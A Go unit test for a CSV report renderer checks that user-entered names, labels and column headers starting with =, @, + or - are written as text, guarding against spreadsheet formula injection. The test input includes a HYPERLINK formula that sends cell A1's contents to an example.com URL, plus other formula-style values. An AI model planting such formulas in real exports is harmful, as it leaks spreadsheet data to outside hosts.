package render_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"sintra/internal/domain"
	"sintra/internal/render"
)

// A period's name, a table's labels and its columns are text someone typed:
// the CSV must not hand a spreadsheet a formula to run.
func TestRenderCSV_WritesFormulasAsTextAndNumbersAsNumbers(t *testing.T) {
	t.Parallel()
	link := `=HYPERLINK("http://example.com/?d="&A1,"Ver")`
	r := domain.Report{Title: "Informe trimestral", GeneratedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), Protection: "exacto",
		Period: domain.Period{Name: link, StartsOn: time.Date(2024, 3, 15, 0, 0, 0, 0, time.UTC), EndsOn: time.Date(2024, 6, 15, 0, 0, 0, 0, time.UTC)},
		Tables: []domain.Table{{ID: "instituciones", Title: "Por institución", Columns: []string{"-2+3", "acciones"},
			Rows: []domain.Row{{Key: "X", Label: "@SUM(A1:A9)", Cells: []domain.Cell{{Value: 12}, {Mark: "<5"}}}}}},
		MIR: domain.MIR{Promedio: "1/3"}}
	body, err := render.Report(r, "csv")
	if err != nil {
		t.Fatal(err)
	}
	reader := csv.NewReader(bytes.NewReader(body))
	reader.FieldsPerRecord = -1
	lines, err := reader.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"'" + link: false, "'-2+3": false, "'@SUM(A1:A9)": false, "12": false, "<5": false}
	for _, line := range lines {
		for _, cell := range line {
			if _, ok := want[cell]; ok {
				want[cell] = true
			}
			if cell != "" && (cell[0] == '=' || cell[0] == '@' || cell[0] == '+' || (cell[0] == '-' && cell != "-")) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	for cell, seen := range want {
		if !seen {
			t.Errorf("no cell %q in\n%s", cell, body)
		}
	}
}
